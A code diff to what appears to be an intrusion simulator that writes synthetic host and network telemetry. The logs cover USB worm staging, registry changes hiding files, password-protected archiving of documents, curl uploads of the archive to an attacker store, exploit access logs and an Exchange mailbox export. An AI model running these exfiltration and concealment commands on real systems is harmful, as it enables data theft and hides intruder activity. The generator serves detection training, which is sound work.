@@ -87,6 +87,23 @@ class Stage {
     }
   }
 
+  /** Explorer is told to show neither hidden nor system files, nor endings of names. */
+  hideFiles(host: Host, at: number, process: Process, { sid }: Session["account"]): void {
+    const advanced = `HKU\\${sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced`;
+    for (const [n, [value, set]] of [
+      ["Hidden", 2],
+      ["ShowSuperHidden", 0],
+      ["HideFileExt", 1],
+    ].entries())
+      this.windows.registry(
+        host,
+        at + n * 30_000,
+        process,
+        `${advanced}\\${value}`,
+        `DWORD (0x0000000${set})`,
+      );
+  }
+
   get explorer(): Process {
     return this.windows.standing(this.host, "explorer", this.session);
   }
@@ -213,29 +230,25 @@ const STEPS: Record<string, (stage: Stage) => void> = {
   removable_media(stage) {
     const { windows, host, at, tools, step } = stage;
     const root = `E:\\${tools.usb.folder}\\${tools.usb.folder}`;
-    const source = { ...stage.running(), ...{} };
-    // The stick is filled on the first host, and opened by somebody else later.
-    windows.file(stage.intrusion.first, at - 40 * MINUTE, source, `E:\\${tools.usb.name}`);
-    windows.file(stage.intrusion.first, at - 40 * MINUTE + 200_000, source, `${root}\\${tools.library}`);
-    windows.file(stage.intrusion.first, at - 40 * MINUTE + 300_000, source, `${root}\\$.ini`);
+    const { first } = stage.intrusion;
+    // The stick is filled on the first host, where the same worm hides what it does, and is opened by somebody else later.
+    const source = stage.running(windows.session(first.owner, 1));
+    const filled = at - 40 * MINUTE;
+    for (const [n, path] of [
+      `E:\\${tools.usb.name}`,
+      `${root}\\${tools.program}`,
+      `${root}\\${tools.library}`,
+      `${root}\\$.ini`,
+    ].entries())
+      windows.file(first, filled + n * 100_000, source, path);
+    stage.hideFiles(first, filled + SECOND, source, first.owner);
     const usb = { ...stage.implant, path: `E:\\${tools.usb.name}` };
     const opened = windows.start(host, at, usb, `"E:\\${tools.usb.name}"`, stage.explorer);
     windows.load(host, at + 60_000, opened, usb.path, tools.signer);
     windows.load(host, at + 120_000, opened, `${root}\\${tools.library}`, "");
     const made = stage.sideLoad(at + 20 * SECOND, opened, opened, opened.session);
-    const advanced = `HKU\\${step.account?.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced`;
-    for (const [value, set] of [
-      ["Hidden", 2],
-      ["ShowSuperHidden", 0],
-      ["HideFileExt", 1],
-    ] as const)
-      windows.registry(
-        host,
-        at + 40 * SECOND + set,
-        made,
-        `${advanced}\\${value}`,
-        `DWORD (0x0000000${set})`,
-      );
+    windows.file(host, at + 21 * SECOND, opened, `${tools.folder}\\$.ini`);
+    stage.hideFiles(host, at + 40 * SECOND, made, host.owner);
     windows.registry(
       host,
       at + 44 * SECOND,
@@ -261,7 +274,9 @@ const STEPS: Record<string, (stage: Stage) => void> = {
     const command = rar
       ? `${packer.path} a -r -hp${tools.password} -ta20250101000000 ${target} ${documents(stage)}\\${types.replaceAll(" ", ` ${documents(stage)}\\`)}`
       : `${packer.path} a -r -p${tools.password} -mhe=on ${target} ${documents(stage)}\\${types.replaceAll(" ", ` ${documents(stage)}\\`)}`;
-    const packing = windows.start(host, at, packer, command, stage.running());
+    const writer = stage.running();
+    windows.file(host, at - 50 * SECOND, writer, packer.path);
+    const packing = windows.start(host, at, packer, command, writer);
     windows.file(host, at + 20 * SECOND, packing, target);
   },
   upload(stage) {
@@ -272,18 +287,19 @@ const STEPS: Record<string, (stage: Stage) => void> = {
       ? `curl -T ${source} ftp://${tools.storeAddress}/in/ --user svc:${tools.password}x`
       : `curl --upload-file ${source} https://${tools.store}/u/${hex(tools.password, 8)}`;
     const started = windows.run(host, at, "curl", command, stage.running());
-    const port = ftp ? 21 : 443;
-    if (!ftp) network.ask(at, host, tools.store, tools.storeAddress);
-    const { sourcePort } = network.flow(at + SECOND, {
-      from: host.address,
-      to: tools.storeAddress,
-      port,
-      out: 48e6 + (at % 1e7),
-      in: 12000,
-      seconds: 140,
-      service: ftp ? "ftp" : "ssl",
-    });
-    windows.connection(host, at + SECOND, started, tools.storeAddress, port, sourcePort);
+    const size = 48e6 + (at % 1e7);
+    const to = tools.storeAddress;
+    if (ftp) {
+      const file = source.slice(source.lastIndexOf("\\") + 1);
+      const ports = network.ftp(at + SECOND, host, to, { user: "svc", file, size, seconds: 140 });
+      windows.connection(host, at + SECOND, started, to, 21, ports.command);
+      windows.connection(host, at + 2 * SECOND, started, to, ports.port, ports.data);
+      return;
+    }
+    network.ask(at, host, tools.store, to);
+    windows.query(host, at, started, tools.store, to);
+    const sourcePort = network.tls(at + SECOND, host, tools.store, size, 12000, to, "curl");
+    windows.connection(host, at + SECOND, started, to, 443, sourcePort);
   },
   gateway_exploit(stage) {
     const { book, host, at, tools, network } = stage;
@@ -298,7 +314,7 @@ const STEPS: Record<string, (stage: Stage) => void> = {
       book.line(
         `gateway/${host.name}`,
         then,
-        `${tools.storeAddress} - - [${day}/${month}/${year}:${time} +0000] "GET ${uri} HTTP/1.1" ${n < 9 ? 200 : 500} ${700 + n} "-" "python-requests/2.32.3"`,
+        `${host.computer}:443 ${tools.storeAddress} - - [${day}/${month}/${year}:${time} +0000] "GET ${uri} HTTP/1.1" ${n < 9 || n === 13 ? 200 : 500} ${700 + n} "-" "python-requests/2.32.3"`,
       );
       network.flow(then, {
         from: tools.storeAddress,
@@ -310,6 +326,16 @@ const STEPS: Record<string, (stage: Stage) => void> = {
         service: "ssl",
       });
     }
+    // The last command was taken.
+    network.http(
+      at - 6 * MINUTE,
+      host.address,
+      tools.address,
+      tools.address,
+      `/${tools.linuxTool}`,
+      "curl/7.81.0",
+      640_000,
+    );
   },
   linux_backdoor(stage) {
     const { at, tools, network, host, book } = stage;
@@ -423,12 +449,19 @@ const STEPS: Record<string, (stage: Stage) => void> = {
       "powershell.exe -NoExit",
       windows.standing(host, "explorer", session),
     );
+    const target = `\\\\${hostOf(stage.book.estate, "file_server").name}\\scans$\\m.pst`;
+    const mailbox = stage.intrusion.first.owner.name;
     windows.script(
       host,
       at + 2 * MINUTE,
       session,
-      `Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ${stage.intrusion.first.owner.name} -FilePath \\\\${hostOf(stage.book.estate, "file_server").name}\\scans$\\m.pst`,
+      `Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ${mailbox} -FilePath ${target}`,
     );
+    windows.cmdlet(host, at + 2 * MINUTE + SECOND, session, "New-MailboxExportRequest", {
+      Mailbox: mailbox,
+      FilePath: target,
+    });
+    windows.file(host, at + 4 * MINUTE, windows.standing(host, "replication"), target);
   },
   database(stage) {
     const { windows, host, at, tools } = stage;
